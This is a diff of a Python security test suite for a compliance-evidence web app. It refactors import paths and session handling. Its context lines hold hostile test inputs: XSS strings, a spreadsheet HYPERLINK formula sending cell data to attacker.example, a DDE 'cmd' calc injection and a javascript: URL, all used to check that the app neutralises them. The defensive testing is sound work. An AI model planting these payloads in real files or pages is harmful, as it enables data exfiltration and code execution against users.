@@ -38,11 +38,14 @@ from hypothesis import strategies as st
 from sqlalchemy import func, text
 from sqlmodel import Session, SQLModel, select
 
-from evidence import auth, catalogue, controls, db, dossier, evidence_items, findings, importer, perimeters, storage
-from evidence.errors import EvidenceError
-from evidence.models import (
-    ROLES, Control, Evidence, EvidenceVersion, Requirement, Section, User,
-)
+from evidence import catalogue, dossier, importer
+from evidence.core.errors import EvidenceError
+from evidence.data import database as db
+from evidence.data import storage
+from evidence.data.models import ROLES, Control, Evidence, EvidenceVersion, Requirement, Section, User
+from evidence.services import controls, findings, perimeters
+from evidence.services import evidence as evidence_items
+from evidence.services import users as auth
 
 from .conftest import PASSWORD, csrf_token, login
 
@@ -106,7 +109,7 @@ def world(app, users):
     app.test_client_class = SecurityHeadersClient
     app.config["TODAY"] = DAY
     ids = {}
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         catalogue.load_catalogues(session, [TINY], "cli:test")
         get = lambda role: session.get(User, users[role].id)  # noqa: E731
         manager, contributor = get("manager"), get("contributor")
@@ -168,7 +171,7 @@ def client_for(app, role: str | None):
 def fingerprint(app) -> dict:
     """Row counts of every table and the audit trail's head: any write shows here (the dashboard's daily
     readiness snapshot is left out: reading a dashboard records it)."""
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         counts = {
             table.name: session.execute(select(func.count()).select_from(table)).scalar_one()
             for table in SQLModel.metadata.sorted_tables if table.name not in ("readiness_snapshot",)
@@ -333,7 +336,7 @@ def test_contributor_cannot_change_another_contributors_objects(world):
     app, ids = world, world.config["WORLD"]
     client = client_for(app, "contributor")
     token = csrf_token(client, "/evidence/EV-0001")
-    with app.app_context(), db.session_scope() as session:  # the right versions: only the role may stop the request
+    with app.app_context(), db.session_scope(app) as session:  # the right versions: only the role may stop the request
         v = {ref: str(version) for ref, version in session.exec(select(Evidence.ref, Evidence.version))}
         v |= {ref: str(version) for ref, version in session.exec(select(Control.ref, Control.version))}
     before = fingerprint(app)
@@ -385,7 +388,7 @@ def test_contributor_cannot_change_another_contributors_objects(world):
                                                           "version": v["EV-0001"],
                                                           "csrf_token": token, "owner": str(ids["contributor2"])})
     assert response.status_code == 302
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         mine = session.exec(select(Control).where(Control.ref == "CTL-C1-02")).one()
         created = session.exec(select(Evidence).where(Evidence.title == "Mine")).one()
         edited = session.exec(select(Evidence).where(Evidence.ref == "EV-0001")).one()
@@ -402,12 +405,12 @@ def test_four_eyes_hold_against_a_direct_post(world):
     response = client.post("/evidence/EV-0003/review/approve", data={"csrf_token": token, "version": "2"},
                            follow_redirects=True)
     assert "four eyes" in response.get_data(as_text=True)
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         assert session.exec(select(Evidence.status).where(Evidence.ref == "EV-0003")).one() == "in_review"
     other = client_for(app, "manager2@example.org")
     token = csrf_token(other, "/evidence/EV-0003")
     assert other.post("/evidence/EV-0003/review/approve", data={"csrf_token": token, "version": "2"}).status_code == 302
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         assert session.exec(select(Evidence.status).where(Evidence.ref == "EV-0003")).one() == "approved"
 
 
@@ -567,7 +570,7 @@ SHORT = "\"'><img src=x onerror=alert(2) id=xss-s>{{7*7}}"  # for fields of 80 c
 
 def test_xss_payloads_in_every_text_field_stay_text_on_every_page(world):
     app, ids = world, world.config["WORLD"]
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         manager = session.exec(select(User).where(User.email == "manager@example.org")).one()
         second = session.get(User, ids["manager2"])
         contributor2 = session.get(User, ids["contributor2"])
@@ -662,7 +665,7 @@ def test_matrix_exports_neutralise_formulas(world):
     app, ids = world, world.config["WORLD"]
     formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                 "\t=1+1", "\r=2+2"]
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         manager = session.exec(select(User).where(User.email == "manager@example.org")).one()
         perimeter = perimeters.get_perimeter(session, "iaas-t")
         refs = {r.ref: r for r in session.exec(select(Requirement))}  # only the four-item referential is loaded
@@ -738,7 +741,7 @@ def test_link_evidence_addresses_are_never_fetched(world, listener):
     assert app.test_cli_runner().invoke(args=["verify"]).exit_code == 0
     time.sleep(0.3)  # anything asynchronous would have arrived by now
     assert hits == []
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         urls = session.exec(select(EvidenceVersion.url).where(EvidenceVersion.url.is_not(None))).all()
         assert f"{base}/version" in urls and "javascript:alert(1)" not in urls
 
@@ -799,7 +802,7 @@ def test_bulk_import_refuses_paths_outside_its_root(world, tmp_path):
         writer.writerow([name, f"Traversal {n}", "report"])
     manifest.write_text(buffer.getvalue(), encoding="utf-8")
     before = fingerprint(app)
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         actor = session.exec(select(User).where(User.email == "manager@example.org")).one()
         result = importer.run_import(session, storage.get_store(app), actor, manifest, root, origin="cli:test")
     assert [o.action for o in result.outcomes] == [importer.ERROR] * len(names)
@@ -820,7 +823,7 @@ def test_catalogue_and_library_files_cannot_run_code(app, tmp_path, content):
     path.write_text(content.format(marker=marker), encoding="utf-8")
     with pytest.raises(catalogue.CatalogueError, match="not valid YAML"):
         catalogue.parse_catalogue(path)
-    with app.app_context(), db.session_scope() as session, pytest.raises(catalogue.CatalogueError):
+    with app.app_context(), db.session_scope(app) as session, pytest.raises(catalogue.CatalogueError):
         catalogue.import_library(session, path, "cli:test")
     assert not marker.exists()
 
@@ -948,7 +951,7 @@ def test_disabling_a_user_or_resetting_the_password_ends_their_sessions(world):
     token = csrf_token(admin, "/admin/users")
     assert admin.post(f"/admin/users/{world.config['WORLD']['user']}/active", data={"csrf_token": token}).status_code == 302
     assert contributor.get("/").status_code == 302
-    with app.app_context(), db.session_scope() as session:
+    with app.app_context(), db.session_scope(app) as session:
         auth.set_password(session, None, auth.get_user(session, "manager@example.org"), "another long password")
     assert manager.get("/").status_code == 302
 
